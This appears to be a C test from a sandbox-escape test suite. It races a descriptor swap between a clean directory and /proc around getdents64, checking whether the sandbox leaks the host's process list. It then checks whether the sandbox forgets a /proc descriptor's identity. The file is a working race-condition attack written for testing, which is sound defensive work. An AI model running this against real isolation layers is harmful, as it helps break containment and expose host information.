/* getdents of a clean host directory is left to the kernel. Another thread puts a descriptor of /proc in its place between check and use: the
 * kernel would list every process of the host. */
#include "attack.h"

#include <dirent.h>

static volatile bool go = true;
static int proc_fd, clean_fd;
#define SLOT 99

static void *swap(void *arg)
{
	(void)arg;
	while (go) {
		dup2(proc_fd, SLOT);
		dup2(clean_fd, SLOT);
	}
	return NULL;
}

static bool has_one(const char *buf, long n)
{
	for (long at = 0; at < n;) {
		const struct dirent64 *e = (const void *)(buf + at);
		if (strcmp(e->d_name, "1") == 0)
			return true;
		at += e->d_reclen;
	}
	return false;
}

int main(int argc, char **argv)
{
	static char buf[65536];
	pthread_t t;

	NEED(argc > 1);
	proc_fd = open("/proc", O_RDONLY | O_DIRECTORY);
	clean_fd = open(in_dir(argv[1], "host/sub"), O_RDONLY | O_DIRECTORY);
	NEED(proc_fd >= 0 && clean_fd >= 0 && dup2(clean_fd, SLOT) == SLOT);
	pthread_create(&t, NULL, swap, NULL);
	for (double end = race_end(5); now() < end && !wins;) {
		lseek(proc_fd, 0, SEEK_SET);
		lseek(clean_fd, 0, SEEK_SET);
		long n = syscall(SYS_getdents64, SLOT, buf, sizeof buf);
		if (has_one(buf, n))
			won("the kernel listed the host's processes");
	}
	go = false;
	pthread_join(t, NULL);
	/* Its identity forgotten? Thousands of other objects of /proc are opened in between. */
	for (int i = 0; i < 6000 && !wins; i++) {
		char path[64];
		snprintf(path, sizeof path, "/proc/self/%s", i % 2 ? "maps" : "mounts");
		close(open(path, O_RDONLY));
	}
	lseek(proc_fd, 0, SEEK_SET);
	long n = syscall(SYS_getdents64, proc_fd, buf, sizeof buf);
	if (has_one(buf, n))
		won("a descriptor of /proc lists the host's processes when its identity is forgotten");
	return verdict();
}
